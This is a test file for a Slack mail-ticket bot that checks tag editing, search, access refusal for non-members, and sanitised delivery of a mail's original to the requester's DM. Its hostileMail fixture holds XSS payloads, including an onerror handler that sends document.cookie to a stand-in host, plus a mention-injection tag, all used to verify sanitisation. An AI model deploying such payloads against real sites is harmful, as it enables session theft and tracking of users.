/**
 * Tags and a mail's original, driven the way Slack drives the app: signed clicks, modal
 * submissions and slash commands against the running bot, a hostile HTML mail delivered
 * by real Dovecot, and the Slack stand-in showing what each person would see — the tags on
 * the ticket message and in its thread, `/mail search tag:` and `/mail stats`, and the
 * original in the asker's own DM with the bot, nowhere else.
 */
import { expect, it } from 'vitest';
import { appendMail } from '../support/dovecot.js';
import { CHANNEL_ID, USERS, useFixture, useRunningBot } from '../support/fixture.js';
import { waitFor } from '../support/net.js';
import { postedTicket } from '../support/posted-ticket.js';
import { describeWithDovecot } from '../support/services.js';
import type { StoredMessage } from '../support/slack-standin.js';

const PNG_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==';

/** A newsletter that tries everything: scripts, handlers, remote images and styles, frames, a javascript: link. */
function hostileMail(to: string, subject: string): string {
  const html = [
    '<html><head><script>alert("head")</script>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import url(https://evil.example/y.css); p { color: #333 }</style></head>',
    '<body onload="alert(1)"><p style="background:url(https://evil.example/track.png)">Dear customer,</p>',
    '<img src="cid:logo@example.jp" alt="Our logo"><img src="https://evil.example/pixel.gif?u=1" width=1 height=1>',
    '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>',
    '<a href="javascript:alert(2)">unsubscribe</a> <a href="https://example.jp/terms">terms</a>',
    '<img src=x onerror="fetch(\'https://evil.example/steal?\'+document.cookie)"></body></html>',
  ].join('\r\n');
  return [
    'From: Tanaka <tanaka@example.jp>',
    `To: ${to}`,
    `Subject: ${subject}`,
    `Message-ID: <original-${Date.now()}@example.jp>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="rel"',
    '',
    '--rel',
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/plain; charset=UTF-8',
    '',
    'Dear customer, in plain text.',
    '--alt',
    'Content-Type: text/html; charset=UTF-8',
    '',
    html,
    '--alt--',
    '--rel',
    'Content-Type: image/png',
    'Content-Transfer-Encoding: base64',
    'Content-ID: <logo@example.jp>',
    'Content-Disposition: inline; filename="logo.png"',
    '',
    PNG_BASE64,
    '--rel--',
    '',
  ].join('\r\n');
}

describeWithDovecot('tags and the original mail in Slack', (dovecot) => {
  const fixture = useFixture(dovecot);
  const { db } = useRunningBot(fixture);
  let posted: { message: StoredMessage; ticketId: number; raw: string; mailId: number } | undefined;

  /** The hostile mail, delivered once and posted; its ticket message, ticket id, raw source and mail row id. */
  async function ticket() {
    if (posted) return posted;
    const subject = `Newsletter ${Date.now()}`;
    const raw = hostileMail(fixture.mailbox, subject);
    await appendMail(dovecot, fixture.mailbox, [raw]);
    const { message, ticketId } = await postedTicket(fixture, db, subject);
    const { id: mailId } = db.prepare('SELECT id FROM Message WHERE ticketId = ?').get(ticketId) as { id: number };
    posted = { message, ticketId, raw, mailId };
    return posted;
  }

  const current = (message: StoredMessage) =>
    fixture.slack.messages.find((m) => m.ts === message.ts && m.channel === CHANNEL_ID)!;
  const thread = (message: StoredMessage) =>
    fixture.slack
      .posted(CHANNEL_ID, message.ts)
      .map((m) => m.text ?? '')
      .join('\n');
  const tagsOf = (ticketId: number) =>
    JSON.parse((db.prepare('SELECT tags FROM Ticket WHERE id = ?').get(ticketId) as { tags: string }).tags) as string[];
  const audits = (ticketId: number, action: string) =>
    (
      db.prepare('SELECT COUNT(*) AS n FROM AuditLog WHERE ticketId = ? AND action = ?').get(ticketId, action) as {
        n: number;
      }
    ).n;
  const opened = () => fixture.slack.callsOf('views.open').filter((call) => !call.error);
  async function answer(responseId: string) {
    return (await fixture.slack.answerTo(responseId)) as { text?: string; response_type?: string; blocks?: unknown[] };
  }
  function click(userId: string, message: StoredMessage, action: Record<string, unknown>) {
    const responseId = `r-${Math.random().toString(36).slice(2)}`;
    return {
      responseId,
      sent: fixture.requests.blockAction({ userId, channelId: CHANNEL_ID, messageTs: message.ts, action, responseId }),
    };
  }
  async function command(userId: string, text: string) {
    const { responseId } = await fixture.requests.command({ text, userId, channelId: CHANNEL_ID });
    return JSON.stringify(await answer(responseId));
  }

  /** Clicks Tags and returns the editor Slack opened: its id and private_metadata. */
  async function openEditor(userId: string, message: StoredMessage, ticketId: number) {
    const before = opened().length;
    await click(userId, message, { action_id: 'ticket.tags', type: 'button', value: String(ticketId) }).sent;
    await waitFor(() => opened().length === before + 1, 5_000, 'the tag editor');
    const view = opened().at(-1)!.args.view as { callback_id: string; private_metadata: string; blocks: unknown[] };
    expect(view.callback_id).toBe('ticket.tags');
    const viewId = [...fixture.slack.views.values()].filter((v) => v.callback_id === 'ticket.tags').at(-1)!
      .id as string;
    return { viewId, view };
  }
  async function save(userId: string, viewId: string, privateMetadata: string) {
    const response = await fixture.requests.viewSubmission({
      userId,
      callbackId: 'ticket.tags',
      viewId,
      values: (fixture.slack.viewPayload(viewId).state as { values: Record<string, Record<string, unknown>> }).values,
      privateMetadata,
    });
    expect(response.status).toBe(200);
    return response.body;
  }

  it('a tag added from Slack shows on the ticket message and in its thread, and is found by /mail search tag: and /mail stats', async () => {
    const { message, ticketId } = await ticket();
    const first = await openEditor(USERS.agentEn.id, message, ticketId);
    fixture.slack.type(first.viewId, 'tags_new', 'tags', 'VIP,  Billing   Dept , <!channel>');
    // No errors: the modal closes.
    expect(await save(USERS.agentEn.id, first.viewId, first.view.private_metadata)).not.toContain('errors');
    await waitFor(() => tagsOf(ticketId).length === 3, 5_000, 'the tags stored');
    expect(tagsOf(ticketId)).toEqual(['vip', 'billing dept', '<!channel>']);
    await waitFor(
      () => JSON.stringify(current(message).blocks).includes('`vip` `billing dept` `&lt;!channel&gt;`'),
      5_000,
      'the ticket message showing the tags',
    );
    expect(JSON.stringify(current(message).blocks)).not.toContain('<!channel>');
    await waitFor(() => thread(message).includes('changed the tags'), 5_000, 'the trace line');
    expect(thread(message)).toContain(
      `<@${USERS.agentEn.id}> changed the tags: +\`vip\` +\`billing dept\` +\`&lt;!channel&gt;\`.`,
    );
    expect(audits(ticketId, 'ticket.tags_changed')).toBe(1);

    // The next editor offers them, chosen; taking two off removes them, in Japanese in the thread.
    const second = await openEditor(USERS.agentJa.id, message, ticketId);
    expect(JSON.stringify(second.view.blocks)).toContain('"initial_options"');
    fixture.slack.choose(second.viewId, 'tags_known', ['vip']);
    expect(await save(USERS.agentJa.id, second.viewId, second.view.private_metadata)).not.toContain('errors');
    await waitFor(() => tagsOf(ticketId).length === 1, 5_000, 'two tags removed');
    expect(tagsOf(ticketId)).toEqual(['vip']);
    await waitFor(() => thread(message).includes('−`billing dept`'), 5_000, 'the second trace line');
    await waitFor(
      () => !JSON.stringify(current(message).blocks).includes('billing dept'),
      5_000,
      'the message without the removed tags',
    );

    // A new tag too long is said on the field, and nothing changes.
    const third = await openEditor(USERS.agentEn.id, message, ticketId);
    fixture.slack.type(third.viewId, 'tags_new', 'tags', 'x'.repeat(41));
    const refused = JSON.parse(await save(USERS.agentEn.id, third.viewId, third.view.private_metadata)) as {
      response_action: string;
      errors: Record<string, string>;
    };
    expect(refused.response_action).toBe('errors');
    expect(refused.errors.tags_new).toContain('at most 40 characters');
    expect(tagsOf(ticketId)).toEqual(['vip']);

    const found = await command(USERS.agentJa.id, 'search tag:VIP');
    expect(found).toContain(
      String((db.prepare('SELECT subject FROM Ticket WHERE id = ?').get(ticketId) as { subject: string }).subject),
    );
    expect(await command(USERS.agentJa.id, 'search tag:"billing dept"')).toContain('一致するものはありません');
    const stats = await command(USERS.agentEn.id, 'stats week');
    expect(stats).toContain('By tag');
    expect(stats).toContain('• `vip`: 1');
  });

  it('refuses a non-member: no editor, no change, no original', async () => {
    const { message, ticketId, mailId } = await ticket();
    const before = opened().length;
    const tags = tagsOf(ticketId);
    const tagsClick = click(USERS.outsider.id, message, {
      action_id: 'ticket.tags',
      type: 'button',
      value: String(ticketId),
    });
    await tagsClick.sent;
    expect((await answer(tagsClick.responseId)).text).toContain('Only members of');
    expect(opened().length).toBe(before);

    // A submission made up by hand changes nothing either.
    const forgedResponse = await fixture.requests.viewSubmission({
      userId: USERS.outsider.id,
      callbackId: 'ticket.tags',
      values: { tags_new: { tags: { type: 'plain_text_input', value: 'hacked' } } },
      privateMetadata: JSON.stringify({ ticketId, shown: tags }),
    });
    const forged = JSON.parse(forgedResponse.body) as { errors?: Record<string, string> };
    expect(forged.errors?.tags_new).toContain('Only members of');
    expect(tagsOf(ticketId)).toEqual(tags);

    const files = fixture.slack.files.size;
    const original = click(USERS.outsider.id, message, {
      action_id: 'mail.original',
      type: 'overflow',
      selected_option: { value: `${mailId}:eml`, text: { type: 'plain_text', text: 'eml' } },
    });
    await original.sent;
    expect((await answer(original.responseId)).text).toContain('Only members of');
    expect(fixture.slack.imWith(USERS.outsider.id)).toBeUndefined();
    expect(fixture.slack.files.size).toBe(files);
    expect(audits(ticketId, 'mail.original_sent')).toBe(0);
  });

  it('View original gives the sanitised HTML, or the .eml byte for byte, to the asker’s DM and nowhere else', async () => {
    const { message, ticketId, raw, mailId } = await ticket();
    // The menu beside the mail's text names this mail and offers both (and Forward…, which has its own tests).
    const menu = (current(message).blocks as { accessory?: { action_id: string; options: { value: string }[] } }[])
      .map((block) => block.accessory)
      .find((accessory) => accessory?.action_id === 'mail.original')!;
    expect(menu.options.map((option) => option.value)).toEqual([
      `${mailId}:html`,
      `${mailId}:eml`,
      `${mailId}:forward`,
    ]);

    const ask = async (userId: string, format: 'html' | 'eml') => {
      const clicked = click(userId, message, {
        action_id: 'mail.original',
        type: 'overflow',
        selected_option: { value: `${mailId}:${format}`, text: { type: 'plain_text', text: format } },
      });
      await clicked.sent;
      const said = await answer(clicked.responseId);
      expect(said.response_type).toBe('ephemeral');
      const dm = fixture.slack.imWith(userId)!;
      expect(dm.members).toEqual(['U0MAILBOT', userId]);
      const shared = fixture.slack.messages.filter((m) => m.channel === dm.id && m.files?.length).at(-1)!;
      const file = fixture.slack.files.get(shared.files![0]!.id)!;
      return { said: said.text ?? '', shared, file };
    };

    const html = await ask(USERS.agentJa.id, 'html');
    expect(html.said).toContain('ダイレクトメッセージに送りました');
    expect(html.file.filename).toMatch(new RegExp(`^ticket-\\d+-mail-${mailId}\\.html$`));
    expect(html.shared.text).toContain(`メール ${mailId}`);
    const page = html.file.bytes!.toString('utf8');
    expect(page).toContain('Dear customer,');
    expect(page).toContain(`<img src="data:image/png;base64,${PNG_BASE64}" alt="Our logo">`);
    expect(page).toContain(
      '<a href="https://example.jp/terms" rel="noopener noreferrer nofollow" target="_blank">terms</a>',
    );
    expect(page).toContain('Content-Security-Policy');
    expect(page).not.toMatch(/<script|onload|onerror|evil\.example|javascript:|<iframe|<object|<link|@import|url\(/i);

    const eml = await ask(USERS.agentEn.id, 'eml');
    expect(eml.said).toContain('Sent to your direct messages with Mailroom');
    expect(eml.file.filename).toMatch(new RegExp(`^ticket-\\d+-mail-${mailId}\\.eml$`));
    expect(eml.file.bytes!.equals(Buffer.from(raw))).toBe(true);

    // Each went to its asker's DM alone: neither file is in the channel, its thread, or the other's DM.
    for (const id of [html.file.id, eml.file.id]) {
      const where = fixture.slack.messages.filter((m) => m.files?.some((file) => file.id === id)).map((m) => m.channel);
      expect(where).toHaveLength(1);
      expect(where[0]).toMatch(/^D/);
    }
    expect(fixture.slack.imWith(USERS.agentJa.id)!.id).not.toBe(fixture.slack.imWith(USERS.agentEn.id)!.id);
    expect(audits(ticketId, 'mail.original_sent')).toBe(2);
  });
});
